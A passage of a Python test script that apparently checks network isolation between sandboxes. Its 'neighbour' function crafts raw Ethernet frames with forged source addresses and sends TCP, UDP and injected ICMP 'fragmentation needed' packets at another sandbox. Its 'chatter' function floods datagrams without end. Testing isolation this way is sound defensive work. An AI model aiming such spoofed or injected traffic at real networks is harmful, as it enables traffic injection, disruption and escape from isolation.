        if sys.stdin in ready:
            return say(heard)
        for s in ready:
            heard += 1
            if s.type == socket.SOCK_STREAM:
                s.accept()[0].close()
            else:
                s.recvfrom(65536)


def neighbour(address):
    """Sends another sandbox every kind of packet that could pass for part of a flow of its own."""
    me, gate = own(socket.AF_INET), gateway(socket.AF_INET)
    macs = b"\2\x52" + socket.inet_aton(gate) + b"\2\x52" + socket.inet_aton(me)
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    s.bind(("eth0", 0))
    for source in (me, ALLOWED4, gate, HOST4, address):
        for port in (7777, 40001, 40002):
            s.send(macs + b"\x08\0" + ipv4(source, address, 17, udp_segment(source, address, port)))
            for flags in (2, 16, 18, 4, 24):
                s.send(macs + b"\x08\0" + ipv4(source, address, 6, tcp_segment(source, address, port, flags)))
        quoted = ipv4(address, source, 17, udp_segment(address, source, 7777))
        body = struct.pack("!BBHI", 3, 4, 0, 576) + quoted
        s.send(macs + b"\x08\0" + ipv4(source, address, 1, body[:2] + struct.pack("!H", checksum(body)) + body[4:]))


def chatter(address, port, pause):
    """Sends datagrams without end; the test kills what it runs in."""
    with socket.socket(family_of(address), socket.SOCK_DGRAM) as s:
        while True:
            try:
                s.sendto(LEAK, (address, int(port)))
            except OSError:
                pass
            time.sleep(float(pause))


if __name__ == "__main__":
    todo = sys.argv[1:]
    commands = {"udp": udp, "tcp": tcp, "bulk": bulk, "keep": keep, "median": median, "sockets": sockets, "storm": storm,
                "run": run, "chatter": chatter,
                "serve": serve, "offload": offload, "fetch": fetch, "alone": alone, "neighbour": neighbour}
    # Several commands in one program, apart by `+`.
    while todo:
        end = todo.index("+") if "+" in todo else len(todo)
        commands[todo[0]](*todo[1:end])
        todo = todo[end + 1:]
